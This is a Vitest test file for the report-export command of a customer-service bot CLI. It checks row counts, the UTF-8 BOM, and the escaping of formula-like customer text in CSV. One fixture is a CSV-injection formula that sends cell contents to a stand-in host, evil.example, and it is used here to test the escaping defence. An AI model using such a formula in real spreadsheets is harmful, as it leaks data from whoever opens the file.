/**
 * What an operator exports with `kfbot report … --format csv > file.csv` and opens in Excel:
 * every row, Chinese that shows as Chinese, and customer text that stays text.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { SqliteStore } from '../../src/store/sqlite-store.ts';
import { runCli } from './run-cli.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我领红包")';

/** 132 unanswered groups (one of them a formula a customer typed), in a fresh store. */
async function storeWith132Groups(): Promise<string> {
  const path = join(mkdtempSync(join(tmpdir(), 'kfbot-export-')), 'kfbot.db');
  const store = new SqliteStore(path);
  const now = Date.now();
  for (let i = 0; i < 131; i++)
    await store.recordUnanswered({
      openKfId: 'wkA',
      text: `问题${i}`,
      example: `问题${i}怎么办`,
      at: now - i * 1000,
      candidates: [],
    });
  for (const text of [FORMULA, '+8613800000000', '-1', '@SUM(A1)'])
    await store.recordUnanswered({ openKfId: 'wkA', text, example: text, at: now, candidates: [] });
  await store.close();
  return `sqlite:${path}`;
}

describe('report exports', () => {
  it('CSV and JSON hold every group; the table shows 100 and says so on stderr', async () => {
    const store = await storeWith132Groups();
    const table = await runCli(['report', 'unanswered', '--store', store]);
    expect(table.code).toBe(0);
    expect(table.stdout.trim().split('\n')).toHaveLength(101);
    expect(table.stderr).toBe(
      '100 of 135 groups shown; --limit N shows more (CSV and JSON show all by default)\n',
    );
    const csv = await runCli(['report', 'unanswered', '--store', store, '--format', 'csv']);
    expect(csv.stdout.trim().split('\n')).toHaveLength(136);
    expect(csv.stderr).toBe('');
    const json = await runCli(['report', 'unanswered', '--store', store, '--format', 'json']);
    expect(JSON.parse(json.stdout)).toHaveLength(135);
    const limited = await runCli([
      'report',
      'unanswered',
      '--store',
      store,
      '--format',
      'json',
      '--limit',
      '5',
    ]);
    expect(JSON.parse(limited.stdout)).toHaveLength(5);
    expect(limited.stderr).toContain('5 of 135 groups shown');
    const zero = await runCli(['report', 'unanswered', '--store', store, '--limit', '0']);
    expect(zero.code).toBe(2);
    expect(zero.stderr).toContain('--limit takes a whole number of groups, at least 1, not "0"');
  }, 60_000);

  it('CSV starts with a UTF-8 BOM for Excel and neutralises formulas in customer text', async () => {
    const store = await storeWith132Groups();
    const csv = await runCli(['report', 'unanswered', '--store', store, '--format', 'csv']);
    expect(csv.stdout.startsWith('\uFEFFcount,text,')).toBe(true);
    const lines = csv.stdout.split('\n');
    // Quoted for its commas and quotes, and led by ' so Excel shows it instead of running it.
    expect(lines).toContainEqual(
      expect.stringContaining(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我领红包"")"`),
    );
    for (const cell of ["'+8613800000000", "'-1", "'@SUM(A1)"]) expect(csv.stdout).toContain(`,${cell},`);
    expect(csv.stdout).not.toMatch(/,[=+\-@]/);
    const plain = await runCli(['report', 'unanswered', '--store', store, '--format', 'csv', '--no-bom']);
    expect(plain.stdout.startsWith('count,text,')).toBe(true);
    // Every report's CSV gets the BOM, and JSON none.
    const rules = await runCli(['report', 'rules', '--store', store, '--format', 'csv']);
    expect(rules.stdout.startsWith('\uFEFF')).toBe(true);
    const json = await runCli(['report', 'rules', '--store', store, '--format', 'json']);
    expect(json.stdout.startsWith('[')).toBe(true);
  }, 60_000);
});
